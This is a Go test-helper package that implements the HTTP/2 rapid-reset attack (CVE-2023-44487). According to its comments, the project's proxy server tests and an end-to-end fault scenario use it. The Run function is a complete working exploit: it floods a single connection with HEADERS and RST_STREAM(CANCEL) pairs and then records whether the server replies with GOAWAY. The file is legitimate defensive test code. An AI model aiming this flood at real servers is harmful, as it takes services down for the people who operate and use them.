// Package h2attack is the HTTP/2 rapid-reset client (CVE-2023-44487) that
// the proxy's server tests and the e2e fault F12 run: on one connection,
// HEADERS then RST_STREAM(CANCEL) for stream after stream, as fast as it
// can, reading whatever the server sends meanwhile.
package h2attack

import (
	"bytes"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Result is what one attack did and saw.
type Result struct {
	// Sent is the HEADERS+RST_STREAM pairs written.
	Sent int
	// WriteErr ended the writes before all pairs were sent (nil: all sent).
	WriteErr error
	// Ended is how the connection ended: "GOAWAY <code>" when the server
	// sent GOAWAY, "closed: <error>" when it ended without one, "still
	// open" when neither happened within the wait after the last write.
	Ended string
	// Took is the time the writes took.
	Took time.Duration
}

// GoAway tells whether the server sent GOAWAY.
func (r Result) GoAway() bool { return len(r.Ended) >= 6 && r.Ended[:6] == "GOAWAY" }

// Run speaks HTTP/2 on conn (a connection whose ALPN chose h2, or h2c):
// the preface, SETTINGS, then n pairs of a GET https://authority/ HEADERS
// with END_STREAM and a RST_STREAM(CANCEL) of it. It waits at most wait
// after the writes for the server to end the connection, then closes conn.
func Run(conn net.Conn, authority string, n int, wait time.Duration) Result {
	defer conn.Close()
	var res Result
	fr := http2.NewFramer(conn, conn)
	// Drain what the server sends (settings, answers, GOAWAY) so that it
	// never blocks on a full window; note whether it ended the connection.
	ended := make(chan string, 1)
	go func() {
		for {
			fm, err := fr.ReadFrame()
			if err != nil {
				ended <- "closed: " + err.Error()
				return
			}
			if g, ok := fm.(*http2.GoAwayFrame); ok {
				ended <- "GOAWAY " + g.ErrCode.String()
				return
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", authority}, {":path", "/"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	block := hb.Bytes()
	began := time.Now()
	_, res.WriteErr = conn.Write([]byte(http2.ClientPreface))
	if res.WriteErr == nil {
		res.WriteErr = fr.WriteSettings()
	}
	for i := 0; i < n && res.WriteErr == nil; i++ {
		id := uint32(2*i + 1)
		if res.WriteErr = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); res.WriteErr == nil {
			res.WriteErr = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if res.WriteErr == nil {
			res.Sent++
		}
	}
	res.Took = time.Since(began)
	t := time.NewTimer(wait)
	defer t.Stop()
	select {
	case res.Ended = <-ended:
	case <-t.C:
		res.Ended = "still open"
	}
	conn.Close()
	if res.Ended == "still open" {
		<-ended // the reader ends with the connection
	}
	return res
}
